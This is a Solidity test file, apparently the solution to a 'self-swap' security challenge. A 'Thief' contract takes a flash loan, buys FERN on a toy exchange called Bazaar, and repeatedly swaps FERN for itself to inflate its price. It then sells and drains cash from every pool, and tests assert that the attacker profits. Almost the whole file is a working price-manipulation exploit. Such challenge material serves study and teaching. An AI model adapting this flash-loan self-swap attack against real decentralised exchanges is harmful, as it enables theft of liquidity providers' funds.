// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.27;

import {FlashLender, Token} from "../self-swap/src/Imports.sol";
import {Bazaar} from "../self-swap/src/Bazaar.sol";
import {IERC20} from "../../shared/Erc20.sol";
import {IFlashBorrower} from "../../shared/IFlashBorrower.sol";

interface Vm {
    function prank(address) external;
}

contract Thief is IFlashBorrower {
    Token private immutable cash;
    Token private immutable fern;
    Bazaar private immutable bazaar;
    uint256 private rounds;

    constructor(Token cash_, Token fern_, Bazaar bazaar_) {
        (cash, fern, bazaar) = (cash_, fern_, bazaar_);
    }

    function attack(FlashLender lender, uint256 amount, uint256 rounds_) external {
        rounds = rounds_;
        lender.flashLoan(this, address(cash), amount, "");
        cash.transfer(msg.sender, cash.balanceOf(address(this)));
    }

    function onFlashLoan(address, address, uint256 amount, uint256 fee, bytes calldata) external returns (bytes32) {
        cash.approve(address(bazaar), amount);
        fern.approve(address(bazaar), type(uint256).max);
        uint256 bought = bazaar.buy(fern, amount, 0);
        // Little by little costs less slippage for the same rise of the price.
        uint256 part = rounds == 1 ? bought / 2 : bought * 175 / 1_000;
        for (uint256 i; i < rounds; ++i) bazaar.convert(fern, fern, part, 0);
        bazaar.sell(fern, fern.balanceOf(address(this)), 0);
        cash.approve(msg.sender, amount + fee);
        return keccak256("ERC3156FlashBorrower.onFlashLoan");
    }
}

contract SelfSwapTest {
    Vm constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address constant ALICE = address(0xA11CE);
    address constant BOB = address(0xB0B);
    address constant ATTACKER = address(0xBAD);

    Token cash;
    Token fern;
    Token salt;
    Token iron;
    Bazaar bazaar;
    FlashLender lender;

    function setUp() public {
        cash = new Token("Cash", "CASH");
        fern = new Token("Fern", "FERN");
        salt = new Token("Salt", "SALT");
        iron = new Token("Iron", "IRON");
        bazaar = new Bazaar(cash);
        lender = new FlashLender(5);
        _fund(address(this), 560_000 ether, 15_000 ether, 800_000 ether, 6_000 ether);
        bazaar.open(fern, 15_000 ether, 60_000 ether);
        bazaar.open(salt, 800_000 ether, 200_000 ether);
        bazaar.open(iron, 6_000 ether, 300_000 ether);
        _fund(ALICE, 3_500_000 ether, 150_000 ether, 0, 60_000 ether);
        _fund(BOB, 2_000_000 ether, 0, 7_500_000 ether, 0);
        cash.mint(address(lender), 1_500_000 ether);
        vm.prank(ALICE);
        bazaar.supply(fern, 540_000 ether, 1e60, 1e60);
        vm.prank(ALICE);
        bazaar.supply(iron, 2_700_000 ether, 1e60, 1e60);
        vm.prank(BOB);
        bazaar.supply(salt, 1_800_000 ether, 1e60, 1e60);
    }

    function _fund(address who, uint256 cash_, uint256 fern_, uint256 salt_, uint256 iron_) private {
        cash.mint(who, cash_);
        fern.mint(who, fern_);
        salt.mint(who, salt_);
        iron.mint(who, iron_);
        Token[4] memory tokens = [cash, fern, salt, iron];
        for (uint256 i; i < 4; ++i) {
            vm.prank(who);
            tokens[i].approve(address(bazaar), 1e60);
        }
    }

    function test_attack_pays() public {
        Thief thief = new Thief(cash, fern, bazaar);
        vm.prank(ATTACKER);
        thief.attack(lender, 1_500_000 ether, 4);
        // More than the fern stall ever had: the other stalls' cash is gone as well.
        assert(cash.balanceOf(ATTACKER) > 5_400_000 ether);
        assert(cash.balanceOf(address(lender)) == 1_500_750 ether);
    }

    function test_one_round_pays() public {
        Thief thief = new Thief(cash, fern, bazaar);
        vm.prank(ATTACKER);
        thief.attack(lender, 1_500_000 ether, 1);
        assert(cash.balanceOf(ATTACKER) > 800_000 ether);
    }
}
